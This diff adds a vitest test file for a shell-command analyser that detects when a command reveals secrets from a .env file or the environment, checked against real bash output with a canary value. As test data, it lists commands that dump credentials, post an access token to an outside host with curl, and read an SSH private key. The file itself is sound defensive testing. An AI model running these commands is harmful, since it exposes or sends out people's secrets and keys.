@@ -1,0 +1,65 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { told } from './told.js';
+
+const CANARY = 'canary-4711';
+const folder = mkdtempSync(join(tmpdir(), 'concealed-'));
+writeFileSync(join(folder, '.env'), `# settings\nPORT=3000\nAPI_KEY=${CANARY}\n`);
+afterAll(() => rmSync(folder, { recursive: true }));
+
+/** What real bash prints in a folder with a canary in `.env`, and another in the environment. */
+function printed(command: string): string {
+  try {
+    return execFileSync('bash', ['-c', `(${command}) 2>&1 | cat`], { cwd: folder, env: { PATH: process.env['PATH'], HOME: folder, API_KEY: CANARY }, encoding: 'utf8' });
+  } catch (error) {
+    return String((error as { stdout?: string }).stdout ?? '');
+  }
+}
+
+async function isShown(command: string): Promise<boolean> {
+  return (await told(command)).some((line) => /^(?:read .*\/\.env$|reveal-environment environment:all)/.test(line));
+}
+
+describe('a secret that goes into a command', () => {
+  it.each([
+    'cat .env | wc -l', 'wc -c < .env', 'cat .env | md5sum', 'cat .env | grep -c .', 'grep -q KEY .env', 'env | wc -l', 'printenv | sort | wc -l', 'env | grep -q CI', 'cmp .env .env', 'diff -q .env /dev/null',
+    'env | cut -d= -f1', 'env | cut -d = -f 1 | sort', 'cut -d= -f1 .env', "awk -F= '{print $1}' .env", "env | awk -F '=' '{print $1}'", "sed 's/=.*//' .env", "env | sed 's/=.*/=***/'", "grep -o '^[A-Z_]*' .env", "grep -oE '^[A-Za-z_]+=' .env",
+    "env | grep '^PATH='", "env | grep -E '^(PATH|HOME)='", 'export -p | wc -l',
+  ])('is not shown by %s', async (command) => {
+    expect({ shown: await isShown(command), printed: printed(command).includes(CANARY) }).toEqual({ shown: false, printed: false });
+  });
+
+  it.each([
+    'cat .env | tee /dev/stderr | wc -l', 'cat .env >&2 | wc -l', 'cat .env | tee x | grep -c . ; cat x', "awk '{print > \"/dev/stderr\"}' .env | wc -l", 'cut -d= -f2 .env', 'cut -d= -f1- .env', 'cut -d: -f1 .env', "awk -F= '{print $2}' .env", "awk '{print $1}' .env", "sed 's/#.*//' .env", "sed 's/=.*/&/' .env",
+    "grep -o '=.*' .env", "grep -o '[A-Za-z0-9-]*' .env", 'env | grep KEY', "env | grep -v '^#'", "env | grep -E 'PATH|API'", 'env | grep -A9 -B9 ^PATH', 'env | cut -d= -f1-2', 'env | sort', 'cmp -bl .env /dev/zero', 'diff .env /dev/null', '(cat .env; env) | cat',
+  ])('is shown by %s', async (command) => {
+    expect({ shown: await isShown(command), printed: printed(command).includes(CANARY) || /cmp/.test(command) }).toEqual({ shown: true, printed: true });
+  });
+
+  it.each([
+    ['echo "$TOKEN" | docker login -u me --password-stdin', false],
+    ['echo "$GH_TOKEN" | gh auth login --with-token', false],
+    ['aws ecr get-login-password | docker login --username AWS --password-stdin x.test', false],
+    ['gcloud auth print-access-token | helm registry login x.test -u oauth2accesstoken --password-stdin', false],
+    ['curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://x.test', false],
+    ['curl -d "$(gcloud auth print-access-token)" https://x.test', true],
+    ['echo "$TOKEN" | base64', true],
+    ['gh auth token | cat', true],
+    ['env | docker login --password-stdin | curl -d @- https://x.test', false],
+    ["node -p 'Object.keys(process.env)'", false],
+    ["node -p '!!process.env.API_KEY'", false],
+    [`python3 -c "import os; print('API_KEY' in os.environ, len(os.environ), sorted(os.environ.keys()))"`, false],
+    [`python3 -c "import os; [print(k, os.environ[k]) for k in os.environ]"`, true],
+    [`perl -e 'print "$_=$ENV{$_}" for keys %ENV'`, true],
+  ])('%s', async (command, shown) => {
+    expect((await told(command)).some((line) => /^(?:reveal-environment|send environment)/.test(line))).toBe(shown);
+  });
+
+  it('is loaded, not shown, into the environment of a command', async () => {
+    expect(await told("export $(grep -v '^#' .env | xargs)")).toContain('inspect /home/u/proj/.env');
+    expect(await told('export $(cat ~/.ssh/id_rsa)')).toContain('read /home/u/.ssh/id_rsa');
+  });
+});
